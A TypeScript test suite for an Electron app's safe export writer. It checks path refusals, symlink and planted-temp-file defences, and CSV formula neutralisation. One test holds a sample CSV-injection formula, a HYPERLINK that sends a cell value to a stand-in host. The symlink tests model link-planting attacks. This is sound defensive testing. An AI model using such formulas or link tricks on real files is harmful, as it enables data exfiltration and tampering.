/**
 * The safe export file (electron/core/exports/file.ts) through each real export writer on a real SQLite file (accounts
 * list, hand-off, audit trail): path checks with stable reasons, nothing created on refusal, overwrite only when asked,
 * never through a symbolic link, a private temporary file with a random name created exclusively, no file left by a
 * failure or a cancel. Then the one CSV cell format.
 */
import type { Database } from 'better-sqlite3';
import { existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { exportAccounts } from '../../electron/core/accounts/export';
import { writeAuditWorkbook } from '../../electron/core/audit/export';
import { openDatabase } from '../../electron/core/db/database';
import { csvCell, csvHeader, csvLine } from '../../electron/core/exports/csv';
import { checkExportTarget, writeExportFile } from '../../electron/core/exports/file';
import { openExclusivePrivateFile } from '../../electron/core/files';
import { handoffExport } from '../../electron/core/review/handoff';
import { isExistingFileRefusal } from '../../shared/api/export-file';
import { ApiError } from '../../shared/api/errors';
import { tempDir } from '../helpers/temp';

const UAI = '0750654D';
const posix = process.platform !== 'win32';
const mode = (path: string) => statSync(path).mode & 0o777;

let dir: ReturnType<typeof tempDir>;
let db: Database;

beforeEach(() => {
  dir = tempDir('ecd-export-file-');
  db = openDatabase(join(dir.path, 'data')).db;
  mkdirSync(join(dir.path, 'out'));
});

afterEach(() => {
  db.close();
  dir.remove();
});

const out = (name: string) => join(dir.path, 'out', name);
const listing = () => readdirSync(join(dir.path, 'out')).sort();

type Format = 'xlsx' | 'csv';
interface Writer {
  name: string;
  format: Format;
  wrong: Format;
  run(path: string, overwrite?: boolean): Promise<unknown>;
}

const WRITERS: Writer[] = [
  { name: 'accounts (csv)', format: 'csv', wrong: 'xlsx', run: (path, overwrite) => exportAccounts(db, { kind: 'guardian', uai: UAI, format: 'csv', path, overwrite }) },
  { name: 'accounts (xlsx)', format: 'xlsx', wrong: 'csv', run: (path, overwrite) => exportAccounts(db, { kind: 'pupil', uai: UAI, format: 'xlsx', path, overwrite }) },
  { name: 'hand-off (csv)', format: 'csv', wrong: 'xlsx', run: (path, overwrite) => handoffExport(db, UAI, { format: 'csv', path, overwrite }) },
  { name: 'hand-off (xlsx)', format: 'xlsx', wrong: 'csv', run: (path, overwrite) => handoffExport(db, UAI, { format: 'xlsx', path, overwrite }) },
  { name: 'audit trail (xlsx)', format: 'xlsx', wrong: 'csv', run: (path, overwrite) => writeAuditWorkbook({ path, overwrite }, []) },
];

/** The refusal's code and reason, or null when the call succeeded. */
const refusal = (promise: Promise<unknown>) =>
  promise.then(
    () => null,
    (error: unknown) => {
      if (!(error instanceof ApiError)) throw error;
      return { code: error.code, reason: (error.details as { reason?: string } | undefined)?.reason };
    },
  );

describe.each(WRITERS)('export path checks: $name', (writer) => {
  const file = (stem = 'export') => out(`${stem}.${writer.format}`);

  it('refuses a relative path and writes nothing', async () => {
    const name = `relatif-${process.pid}.${writer.format}`;
    expect(await refusal(writer.run(name))).toEqual({ code: 'INVALID_INPUT', reason: 'relative' });
    expect(existsSync(name)).toBe(false);
  });

  it('refuses an extension that does not match the format', async () => {
    expect(await refusal(writer.run(out(`export.${writer.wrong}`)))).toEqual({ code: 'INVALID_INPUT', reason: 'extension' });
    expect(await refusal(writer.run(out('export')))).toEqual({ code: 'INVALID_INPUT', reason: 'extension' });
    expect(listing()).toEqual([]);
  });

  it('refuses a missing folder and does not create it', async () => {
    const missing = join(dir.path, 'out', 'absent', 'sous-dossier');
    expect(await refusal(writer.run(join(missing, `export.${writer.format}`)))).toEqual({ code: 'INVALID_INPUT', reason: 'folder-missing' });
    expect(existsSync(join(dir.path, 'out', 'absent'))).toBe(false);
    writeFileSync(out('fichier'), 'x');
    expect(await refusal(writer.run(join(out('fichier'), `export.${writer.format}`)))).toEqual({ code: 'INVALID_INPUT', reason: 'not-a-folder' });
  });

  it('refuses a folder as the target', async () => {
    mkdirSync(file());
    expect(await refusal(writer.run(file()))).toEqual({ code: 'INVALID_INPUT', reason: 'is-directory' });
    expect(await refusal(writer.run(file(), true))).toEqual({ code: 'INVALID_INPUT', reason: 'is-directory' });
  });

  it('refuses a name with a control character', async () => {
    expect(await refusal(writer.run(out(`ligne\nsuivante.${writer.format}`)))).toEqual({ code: 'INVALID_INPUT', reason: 'control-characters' });
    expect(listing()).toEqual([]);
  });

  it('refuses an existing file without overwrite (CONFLICT "exists"), replaces it with overwrite', async () => {
    writeFileSync(file(), 'ancien contenu', { mode: 0o644 });
    const first = writer.run(file());
    await expect(first).rejects.toSatisfy(isExistingFileRefusal);
    expect(readFileSync(file(), 'utf8')).toBe('ancien contenu');
    await writer.run(file(), true);
    expect(readFileSync(file(), 'utf8')).not.toBe('ancien contenu');
    if (posix) expect(mode(file())).toBe(0o600);
    expect(listing()).toEqual([`export.${writer.format}`]);
  });

  it('writes the file 0600 and leaves no temporary file', async () => {
    await writer.run(file());
    expect(lstatSync(file()).isFile()).toBe(true);
    if (posix) expect(mode(file())).toBe(0o600);
    expect(listing()).toEqual([`export.${writer.format}`]);
  });

  describe.skipIf(!posix)('symbolic links (POSIX)', () => {
    it('never writes through a link at the target, even with overwrite', async () => {
      const victim = join(dir.path, 'victime.txt');
      writeFileSync(victim, 'à protéger');
      symlinkSync(victim, file());
      expect(await refusal(writer.run(file()))).toEqual({ code: 'INVALID_INPUT', reason: 'symlink' });
      expect(await refusal(writer.run(file(), true))).toEqual({ code: 'INVALID_INPUT', reason: 'symlink' });
      symlinkSync(join(dir.path, 'nulle-part'), file('pendant'));
      expect(await refusal(writer.run(file('pendant'), true))).toEqual({ code: 'INVALID_INPUT', reason: 'symlink' });
      expect(readFileSync(victim, 'utf8')).toBe('à protéger');
      expect(existsSync(join(dir.path, 'nulle-part'))).toBe(false);
    });

    it('never follows a link planted at a predictable temporary name', async () => {
      const victim = join(dir.path, 'victime.txt');
      writeFileSync(victim, 'à protéger');
      const planted = [`${file()}.part`, `${file()}.${process.pid}.tmp`, `${file()}.tmp`];
      for (const link of planted) symlinkSync(victim, link);
      await writer.run(file());
      expect(readFileSync(victim, 'utf8')).toBe('à protéger');
      expect(lstatSync(file()).isFile()).toBe(true);
      for (const link of planted) expect(lstatSync(link).isSymbolicLink()).toBe(true);
      expect(listing()).toHaveLength(planted.length + 1);
    });
  });
});

describe('the export file itself', () => {
  const target = () => out('liste.csv');

  it('returns the path absolute and normalised, and accepts an upper-case extension', () => {
    expect(checkExportTarget({ path: join(dir.path, 'out', '..', 'out', 'LISTE.CSV'), format: 'csv' })).toBe(out('LISTE.CSV'));
    expect(() => checkExportTarget({ path: out('lettres.pdf'), format: 'pdf' })).not.toThrow();
  });

  it('writes into a private temporary file next to the target, created exclusively with a random name', async () => {
    const seen: string[] = [];
    for (const name of ['a.csv', 'b.csv']) {
      await writeExportFile({ path: out(name), format: 'csv' }, async (stream) => {
        const temps = listing().filter((f) => f.endsWith('.part'));
        expect(temps).toHaveLength(1);
        seen.push(temps[0]!);
        if (posix) expect(mode(out(temps[0]!))).toBe(0o600);
        stream.end('contenu');
      });
    }
    expect(seen[0]).toMatch(/^\.a\.csv\.[0-9a-f]{24}\.part$/);
    expect(seen[1]).toMatch(/^\.b\.csv\.[0-9a-f]{24}\.part$/);
    expect(listing()).toEqual(['a.csv', 'b.csv']);
  });

  it.skipIf(!posix)('opens a temporary file only if nothing has its name, a planted link included', () => {
    const victim = join(dir.path, 'victime.txt');
    writeFileSync(victim, 'à protéger');
    symlinkSync(victim, out('piege.part'));
    expect(() => openExclusivePrivateFile(out('piege.part'))).toThrow(expect.objectContaining({ code: 'EEXIST' }));
    expect(readFileSync(victim, 'utf8')).toBe('à protéger');
  });

  it('leaves no file when the writer fails or cancels, and keeps the file a cancelled overwrite was to replace', async () => {
    await expect(
      writeExportFile({ path: target(), format: 'csv' }, async (stream) => {
        stream.write('début');
        throw new Error('disque plein');
      }),
    ).rejects.toMatchObject({ code: 'INTERNAL', message: 'Impossible d’écrire le fichier : disque plein' });
    expect(listing()).toEqual([]);

    expect(await writeExportFile({ path: target(), format: 'csv' }, async (stream) => {
      stream.write('début');
      return { cancelled: true };
    })).toEqual({ path: target(), cancelled: true });
    expect(listing()).toEqual([]);

    writeFileSync(target(), 'ancien');
    await writeExportFile({ path: target(), format: 'csv', overwrite: true }, async (stream) => {
      stream.end('nouveau');
      return { cancelled: true };
    });
    expect(readFileSync(target(), 'utf8')).toBe('ancien');
    expect(listing()).toEqual(['liste.csv']);
  });

  it('does not replace a file that appeared at the target while writing, unless overwrite was asked', async () => {
    const race = writeExportFile({ path: target(), format: 'csv' }, async (stream) => {
      writeFileSync(target(), 'arrivé entre-temps');
      stream.end('export');
    });
    await expect(race).rejects.toSatisfy(isExistingFileRefusal);
    expect(readFileSync(target(), 'utf8')).toBe('arrivé entre-temps');
    expect(listing()).toEqual(['liste.csv']);
  });
});

describe('CSV cells', () => {
  it('neutralises formulas: = + - @ tab and CR at the start of a text cell get a leading apostrophe', () => {
    expect(csvCell('=HYPERLINK("http://x.example/?"&A1;"Clic")')).toBe(`"'=HYPERLINK(""http://x.example/?""&A1;""Clic"")"`);
    expect(csvCell('+33 6 12 34 56 78')).toBe("'+33 6 12 34 56 78");
    expect(csvCell('-12')).toBe("'-12");
    expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvCell('\t=1+1')).toBe("'\t=1+1");
    expect(csvCell('\r=1+1')).toBe(`"'\r=1+1"`);
    expect(csvCell('Jean-Marie')).toBe('Jean-Marie');
    expect(csvCell('a=b')).toBe('a=b');
  });

  it('quotes separators, quotes and line breaks; numbers stay numbers; empty for null', () => {
    expect(csvCell('Dupont; Marie')).toBe('"Dupont; Marie"');
    expect(csvCell('dit "Jo"')).toBe('"dit ""Jo"""');
    expect(csvCell('ligne\nsuivante')).toBe('"ligne\nsuivante"');
    expect(csvCell(-12)).toBe('-12');
    expect(csvCell(12.5)).toBe('12,5');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvHeader(['Nom', 'Prénom'])).toBe('\uFEFFNom;Prénom\r\n');
    expect(csvLine(['=1', null, 3])).toBe("'=1;;3\r\n");
  });
});
